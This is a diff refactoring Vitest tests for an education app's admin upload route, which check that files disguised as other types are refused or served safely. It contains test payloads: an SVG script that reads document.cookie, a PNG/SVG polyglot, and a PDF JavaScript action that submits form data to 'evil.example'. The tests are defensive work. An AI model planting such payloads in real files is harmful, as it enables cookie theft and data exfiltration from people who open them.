@@ -4,7 +4,6 @@ import type { Readable } from 'node:stream'
 import v8 from 'node:v8'
 import vm from 'node:vm'
 import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
-import { createUser } from '#app/models/accounts/users.server.ts'
 import { action as uploadsAction } from '#app/routes/admin/uploads.tsx'
 import { loader as materialFileLoader } from '#app/routes/resources/material-file.ts'
 import { action as xhrAction } from '#app/routes/resources/material-upload.ts'
@@ -14,7 +13,7 @@ import { resetEnvCache } from '#app/utils/env.server.ts'
 import { sampleChartPng, sampleClassRecording, samplePdf } from '#db/seed/sample-files.ts'
 import { useTestDatabase } from '#tests/support/db.ts'
 import { insertCourse } from '#tests/support/fixtures.ts'
-import { callRoute, getRequest, sessionCookieFor, toastOf } from '#tests/support/requests.ts'
+import { callRoute, getRequest, signedInUser, toastOf } from '#tests/support/requests.ts'
 import { useTestStorage } from '#tests/support/storage.ts'
 
 const t = useTestDatabase()
@@ -27,16 +26,8 @@ const HTML = new TextEncoder().encode('<!DOCTYPE html><html><body><script>alert(
 const SVG_WITH_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script><circle r="5"/></svg>'
 const UUID = '[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}'
 
-async function admin() {
-	sequence += 1
-	const user = await createUser(t.db, {
-		email: `upload-admin-${sequence}@example.com`,
-		name: 'Upload Admin',
-		password: 'password-123',
-		role: 'admin',
-		confirmed: true,
-	})
-	return { id: user.id, cookie: await sessionCookieFor(user.id) }
+function admin() {
+	return signedInUser(t.db, { role: 'admin' })
 }
 
 async function course(title = 'Upload Course') {
@@ -65,6 +56,15 @@ function target(courseId: number, weekNumber: number, topic: string): Part[] {
 		{ name: 'weekNumber', value: String(weekNumber) },
 		{ name: 'topic', value: topic },
 	]
+}
+
+/** Posts parts to the uploads page for week 1, 'Intro', of the course. */
+function uploadToIntroWeek(cookie: string, courseId: number, ...parts: Part[]) {
+	return callRoute(uploadsAction, uploadRequest(cookie, [...target(courseId, 1, 'Intro'), ...parts]))
+}
+
+function serve(itemId: number, cookie: string) {
+	return callRoute(materialFileLoader, getRequest(`/files/materials/${itemId}`, { cookie }), { itemId: String(itemId) })
 }
 
 function storedKeys() {
@@ -157,18 +157,13 @@ describe('uploading a week of materials', () => {
 	test('a file name already in the week is refused with the spec message and nothing new is stored', async () => {
 		const { cookie } = await admin()
 		const { id: courseId } = await course()
-		await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [...target(courseId, 1, 'Intro'), { name: 'materialFiles', file: { name: 'notes.pdf', bytes: PDF } }]),
-		)
+		await uploadToIntroWeek(cookie, courseId, { name: 'materialFiles', file: { name: 'notes.pdf', bytes: PDF } })
 		const before = storedKeys()
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [
-				...target(courseId, 1, 'Intro'),
-				{ name: 'materialFiles', file: { name: 'other.pdf', bytes: PDF } },
-				{ name: 'materialFiles', file: { name: 'Notes.pdf', bytes: PDF } },
-			]),
+		const response = await uploadToIntroWeek(
+			cookie,
+			courseId,
+			{ name: 'materialFiles', file: { name: 'other.pdf', bytes: PDF } },
+			{ name: 'materialFiles', file: { name: 'Notes.pdf', bytes: PDF } },
 		)
 		expect(response.status).toBe(409)
 		expect(await errorsOf(response)).toEqual(['A file with the name "Notes.pdf" already exists. Please rename your file and try again.'])
@@ -180,13 +175,11 @@ describe('uploading a week of materials', () => {
 	test('a .pdf whose content is HTML is refused: nothing stored, no row', async () => {
 		const { cookie } = await admin()
 		const { id: courseId } = await course()
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [
-				...target(courseId, 1, 'Intro'),
-				{ name: 'materialFiles', file: { name: 'good.pdf', bytes: PDF } },
-				{ name: 'materialFiles', file: { name: 'evil.pdf', bytes: HTML, type: 'application/pdf' } },
-			]),
+		const response = await uploadToIntroWeek(
+			cookie,
+			courseId,
+			{ name: 'materialFiles', file: { name: 'good.pdf', bytes: PDF } },
+			{ name: 'materialFiles', file: { name: 'evil.pdf', bytes: HTML, type: 'application/pdf' } },
 		)
 		expect(response.status).toBe(415)
 		expect((await errorsOf(response))[0]).toMatch(/^"evil\.pdf" cannot be uploaded/)
@@ -202,10 +195,7 @@ describe('uploading a week of materials', () => {
 		const { cookie } = await admin()
 		const { id: courseId } = await course()
 		const field = name.endsWith('.mp4') ? 'recordingFiles' : 'materialFiles'
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [...target(courseId, 1, 'Intro'), { name: field, file: { name, bytes } }]),
-		)
+		const response = await uploadToIntroWeek(cookie, courseId, { name: field, file: { name, bytes } })
 		expect(response.status).toBe(status)
 		expect(storedKeys()).toEqual([])
 		expect(await weeksOf(courseId)).toEqual([])
@@ -214,10 +204,7 @@ describe('uploading a week of materials', () => {
 	test('a PDF sent as a class recording is refused', async () => {
 		const { cookie } = await admin()
 		const { id: courseId } = await course()
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [...target(courseId, 1, 'Intro'), { name: 'recordingFiles', file: { name: 'slides.pdf', bytes: PDF } }]),
-		)
+		const response = await uploadToIntroWeek(cookie, courseId, { name: 'recordingFiles', file: { name: 'slides.pdf', bytes: PDF } })
 		expect(response.status).toBe(415)
 		expect((await errorsOf(response))[0]).toContain('is not a video')
 	})
@@ -261,13 +248,11 @@ describe('uploading a week of materials', () => {
 	test('a valid form with files but an invalid field stores nothing', async () => {
 		const { cookie } = await admin()
 		const { id: courseId } = await course()
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [
-				...target(courseId, 1, 'Intro'),
-				{ name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } },
-				{ name: 'youtubeUrl', value: 'not a link' },
-			]),
+		const response = await uploadToIntroWeek(
+			cookie,
+			courseId,
+			{ name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } },
+			{ name: 'youtubeUrl', value: 'not a link' },
 		)
 		expect(response.status).toBe(400)
 		expect(await errorsOf(response)).toContain('Please enter a valid YouTube URL')
@@ -291,13 +276,11 @@ describe('uploading a week of materials', () => {
 			},
 		})
 		setStorage(failing)
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [
-				...target(courseId, 1, 'Intro'),
-				{ name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } },
-				{ name: 'materialFiles', file: { name: 'b.pdf', bytes: PDF } },
-			]),
+		const response = await uploadToIntroWeek(
+			cookie,
+			courseId,
+			{ name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } },
+			{ name: 'materialFiles', file: { name: 'b.pdf', bytes: PDF } },
 		)
 		expect(response.status).toBe(503)
 		expect((await errorsOf(response))[0]).toBe('The file storage could not save "b.pdf", so nothing was saved. Please try again later.')
@@ -367,21 +350,11 @@ describe('uploading a week of materials', () => {
 	})
 
 	test('students cannot upload', async () => {
-		sequence += 1
-		const student = await createUser(t.db, {
-			email: `upload-student-${sequence}@example.com`,
-			name: 'S',
-			password: 'password-123',
-			role: 'student',
-			confirmed: true,
-		})
+		const student = await signedInUser(t.db)
 		const { id: courseId } = await course()
 		const response = await callRoute(
 			uploadsAction,
-			uploadRequest(await sessionCookieFor(student.id), [
-				...target(courseId, 1, 'x'),
-				{ name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } },
-			]),
+			uploadRequest(student.cookie, [...target(courseId, 1, 'x'), { name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } }]),
 		)
 		expect(response.status).toBe(302)
 		expect(response.headers.get('Location')).toBe('/dashboard')
@@ -430,10 +403,7 @@ describe('files that lie about their type or their name', () => {
 	])('%s is refused with 415: nothing stored, no row', async (_, name, bytes, type, message) => {
 		const { cookie } = await admin()
 		const { id: courseId } = await course()
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [...target(courseId, 1, 'Intro'), { name: 'materialFiles', file: { name, bytes, type } }]),
-		)
+		const response = await uploadToIntroWeek(cookie, courseId, { name: 'materialFiles', file: { name, bytes, type } })
 		expect(response.status).toBe(415)
 		expect((await errorsOf(response))[0]).toMatch(message)
 		expect(storedKeys()).toEqual([])
@@ -444,18 +414,15 @@ describe('files that lie about their type or their name', () => {
 		const { cookie } = await admin()
 		const { id: courseId } = await course()
 		const polyglot = Buffer.concat([sampleChartPng([1, 2, 3], { width: 32, height: 32 }), Buffer.from(SVG_WITH_SCRIPT)])
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [
-				...target(courseId, 1, 'Intro'),
-				{ name: 'materialFiles', file: { name: 'chart.png', bytes: polyglot, type: 'image/svg+xml' } },
-			]),
-		)
+		const response = await uploadToIntroWeek(cookie, courseId, {
+			name: 'materialFiles',
+			file: { name: 'chart.png', bytes: polyglot, type: 'image/svg+xml' },
+		})
 		expect(response.status).toBe(302)
 		const [week] = await weeksOf(courseId)
 		const [item] = await itemsOf(week!.id)
 		expect(item!.mime_type).toBe('image/png')
-		const served = await callRoute(materialFileLoader, getRequest(`/files/materials/${item!.id}`, { cookie }), { itemId: String(item!.id) })
+		const served = await serve(item!.id, cookie)
 		expect(served.status).toBe(200)
 		// The server adds X-Content-Type-Options: nosniff to every response (tests/e2e/security-http.spec.ts).
 		expect(served.headers.get('Content-Type')).toBe('image/png')
@@ -472,17 +439,14 @@ describe('files that lie about their type or their name', () => {
 				"4 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example'\\)) >>\nendobj\n" +
 				'trailer\n<< /Root 1 0 R >>\n%%EOF\n',
 		)
-		const response = await callRoute(
-			uploadsAction,
-			uploadRequest(cookie, [
-				...target(courseId, 1, 'Intro'),
-				{ name: 'materialFiles', file: { name: 'handout.pdf', bytes: scripted, type: 'application/pdf' } },
-			]),
-		)
+		const response = await uploadToIntroWeek(cookie, courseId, {
+			name: 'materialFiles',
+			file: { name: 'handout.pdf', bytes: scripted, type: 'application/pdf' },
+		})
 		expect(response.status).toBe(302)
 		const [week] = await weeksOf(courseId)
 		const [item] = await itemsOf(week!.id)
-		const served = await callRoute(materialFileLoader, getRequest(`/files/materials/${item!.id}`, { cookie }), { itemId: String(item!.id) })
+		const served = await serve(item!.id, cookie)
 		expect(served.status).toBe(200)
 		expect(served.headers.get('Content-Type')).toBe('application/pdf')
 		expect(served.headers.get('Content-Disposition')).toBe('inline; filename="handout.pdf"')
@@ -501,10 +465,7 @@ describe('files that lie about their type or their name', () => {
 		async (_, name, title, servedName) => {
 			const { cookie } = await admin()
 			const { id: courseId } = await course()
-			const response = await callRoute(
-				uploadsAction,
-				uploadRequest(cookie, [...target(courseId, 1, 'Intro'), { name: 'materialFiles', file: { name, bytes: PDF } }]),
-			)
+			const response = await uploadToIntroWeek(cookie, courseId, { name: 'materialFiles', file: { name, bytes: PDF } })
 			expect(response.status).toBe(302)
 			const [week] = await weeksOf(courseId)
 			const [item] = await itemsOf(week!.id)
@@ -513,9 +474,7 @@ describe('files that lie about their type or their name', () => {
 				new RegExp(`^courses/${courseId}/weeks/${week!.id}/material/${UUID}-${servedName.replace(/\./g, '\\.')}$`),
 			)
 			expect(storedKeys()).toEqual([item!.storage_key])
-			const served = await callRoute(materialFileLoader, getRequest(`/files/materials/${item!.id}`, { cookie }), {
-				itemId: String(item!.id),
-			})
+			const served = await serve(item!.id, cookie)
 			expect(served.status).toBe(200)
 			expect(served.headers.get('Content-Disposition')).toBe(`inline; filename="${servedName}"`)
 		},
